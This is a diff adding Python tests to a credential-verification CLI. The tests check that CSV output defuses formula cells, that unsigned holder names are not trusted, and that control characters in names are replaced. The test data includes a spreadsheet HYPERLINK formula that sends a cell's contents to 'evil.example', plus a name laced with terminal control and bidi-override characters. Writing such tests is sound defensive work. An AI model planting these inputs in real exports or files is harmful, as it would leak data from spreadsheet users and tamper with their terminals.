@@ -319,3 +319,40 @@ def test_a_person_whose_credentials_only_warn_is_said_to_warn(cli: Cli) -> None:
     people = [x for x in out.splitlines() if x.startswith(t("ms", "label.person") + ": ")]
     assert people == [f"{t('ms', 'label.person')}: {t('ms', 'verdict.warning')}",
                       f"{t('ms', 'label.person')}: {t('ms', 'verdict.invalid')}"]
+
+
+def _passport_named(path: Path, block_name: str, jws: str) -> Path:
+    """A passport file of `jws` whose (unsigned) holder block gives the name `block_name`."""
+    cred = Credential.from_payload(parse(jws).payload)
+    h = cred.holder
+    path.write_text(json.dumps({
+        "type": "SkillsPassportBundle", "version": 1,
+        "holder": {"name": block_name, "nameKm": h.name_km, "birthYear": h.birth_year,
+                   "nationalIdLast4": h.national_id_last4},
+        "credentials": [{"id": cred.id, "jws": jws, "qr": qr.encode(jws)}],
+        "created": "2026-11-05T12:00:00Z"}))
+    return path
+
+
+def test_no_csv_cell_is_a_formula_and_a_holder_block_is_not_trusted(
+        cli: Cli, tmp_path: Path, world: World) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Sok Dara")'
+    passport = _passport_named(tmp_path / "@applicant.json", formula, world.issue())
+    code, out, _ = cli("verify", "@applicant.json", str(passport), *_world_files(tmp_path, world),
+                       "--format", "csv")
+    assert code != 0
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    person = [row for row in csv.DictReader(io.StringIO(out)) if row["row"] == "person"
+              and row["holder"] == "'" + formula]
+    assert len(person) == 1 and person[0]["claims_trusted"] == "false"
+    code, out, _ = cli("verify", str(passport), *_world_files(tmp_path, world), "--format", "json")
+    assert [p["claimsTrusted"] for p in json.loads(out)["people"]] == [False]
+
+
+def test_a_name_never_sends_the_terminal_a_control_sequence(cli: Cli, tmp_path: Path,
+                                                           world: World) -> None:
+    passport = _passport_named(tmp_path / "p.json", "Sok \u202eDara\x9b2J\x7f", world.issue())
+    code, out, _ = cli("verify", str(passport), str(passport), *_world_files(tmp_path, world))
+    assert code == 1 and "Sok \ufffdDara\ufffd2J\ufffd" in out
+    assert not [c for c in out if c in "\u202e\x9b\x7f\x1b"]
